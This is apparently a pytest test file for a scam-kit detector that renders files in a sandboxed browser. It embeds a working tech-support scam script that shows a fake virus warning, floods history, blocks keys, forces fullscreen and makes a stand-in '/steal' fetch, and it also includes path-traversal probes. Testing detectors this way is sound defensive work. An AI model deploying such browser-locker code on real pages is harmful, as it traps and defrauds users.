"""``scamscope scan --render FILE``: a kit file opened in the sandboxed browser (real Chromium), served
on a loopback port of its own, with the egress guard admitting only that port."""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from scamscope.cli import app
from scamscope.live.capture import CaptureOptions, LiveCapturer
from scamscope.live.render import render_file, serve_file
from scamscope.scan import scan_path
from tests.conftest import CORPUS, require_shared, serve_pages

KIT_JS = """
document.addEventListener('DOMContentLoaded', function () {
  document.body.innerHTML = '<h1>Windows Defender - Security Warning</h1>' +
    '<p>Your computer is infected with a Trojan virus. Do not close this page. ' +
    'Call Microsoft Support immediately: +1-888-555-0100</p>';
  var hits = 0;
  history.pushState(null, '', '#w');
  for (var i = 0; i < 60; i++) history.pushState(null, '', '#w' + i);
  document.addEventListener('keydown', function (e) { e.preventDefault(); return false; });
  document.addEventListener('contextmenu', function (e) { e.preventDefault(); });
  document.addEventListener('click', function () {
    document.documentElement.requestFullscreen().catch(function () {});
    if (navigator.keyboard) navigator.keyboard.lock().catch(function () {});
  });
  fetch(window.__OTHER__ || 'http://127.0.0.1:9/steal').catch(function () {});
});
"""
OPTIONS = CaptureOptions(budget_s=12)


@pytest.fixture(scope="module")
def capturer() -> Iterator[LiveCapturer]:
    with LiveCapturer() as cap:
        yield cap


def test_script_kit_is_run_by_a_wrapper_page(tmp_path: Path, capturer: LiveCapturer) -> None:
    kit = tmp_path / "kit.js"
    kit.write_text(KIT_JS, encoding="utf-8")
    static = scan_path(kit)
    r = render_file(kit, capturer, OPTIONS)
    assert r.error is None and r.input == str(kit) and r.url is None
    behaviour = {e.signal for e in r.evidence if e.source == "behaviour"}
    assert {"lockin.history_flood", "lockin.fullscreen"} <= behaviour, behaviour
    assert r.verdict == "scam" and any("+18885550100" == p.e164 for p in r.phones)
    assert not any(e.source == "behaviour" for e in static.evidence)  # only rendering shows what it does
    assert any("rendered in the sandboxed browser" in n for n in r.notes)


def test_html_kit_is_served_as_the_page(tmp_path: Path, capturer: LiveCapturer) -> None:
    page = tmp_path / "index.php"
    page.write_text("<?php header('x'); ?><html><body><div id=m></div><script>" + KIT_JS + "</script></body></html>", encoding="utf-8")
    r = render_file(page, capturer, OPTIONS)
    assert r.verdict == "scam" and "lockin.history_flood" in {e.signal for e in r.evidence}


def test_the_egress_guard_admits_only_the_served_port(tmp_path: Path, capturer: LiveCapturer) -> None:
    hits: list[str] = []
    with serve_pages({"/steal": (200, {"Content-Type": "text/plain"}, b"secret")}) as other:
        kit = tmp_path / "probe.js"
        kit.write_text(f"window.__OTHER__ = '{other}/steal';" + KIT_JS, encoding="utf-8")
        r = render_file(kit, capturer, OPTIONS)
        try:
            urllib.request.urlopen(f"{other}/steal", timeout=5).read()
            hits.append("direct")
        except urllib.error.URLError:
            pass
    refused = [b for b in r.extra["live"]["blocked_requests"] if other.split("//", 1)[1] in b["url"]]
    assert refused, r.extra["live"]["blocked_requests"]
    assert hits == ["direct"]  # the server was up: the page was refused, not the server down


def test_the_file_server_serves_only_the_file() -> None:
    with serve_file("../../etc/kit.js", b"alert(1)") as (url, host):
        assert host.startswith("127.0.0.1:")
        page = urllib.request.urlopen(url, timeout=5).read().decode()
        assert "<script src='/kit.js'>" in page
        assert urllib.request.urlopen(url + "kit.js", timeout=5).read() == b"alert(1)"
        for probe in ("../../etc/passwd", "etc/kit.js", "%2e%2e/kit.js"):
            with pytest.raises(urllib.error.HTTPError) as err:
                urllib.request.urlopen(url + probe, timeout=5)
            assert err.value.code == 404


def test_unreadable_and_empty_files_are_errors(tmp_path: Path, capturer: LiveCapturer) -> None:
    assert render_file(tmp_path / "missing.js", capturer, OPTIONS).error == "no such file"
    (tmp_path / "empty.js").write_bytes(b"  \n")
    assert "empty" in (render_file(tmp_path / "empty.js", capturer, OPTIONS).error or "")


def test_cli_render_on_a_real_kit_script() -> None:
    kit = require_shared(CORPUS / "scam" / "h017_browlock-keyblock-fullscreen-ru.js")
    res = CliRunner().invoke(app, ["scan", "--render", "--json", "--budget", "12", str(kit)])
    doc = json.loads(res.stdout.strip().splitlines()[-1])
    assert res.exit_code == 1 and doc["verdict"] == "scam" and doc["input"] == str(kit)
    assert {"lockin.key_block", "lockin.fullscreen"} <= {e["signal"] for e in doc["evidence"]}
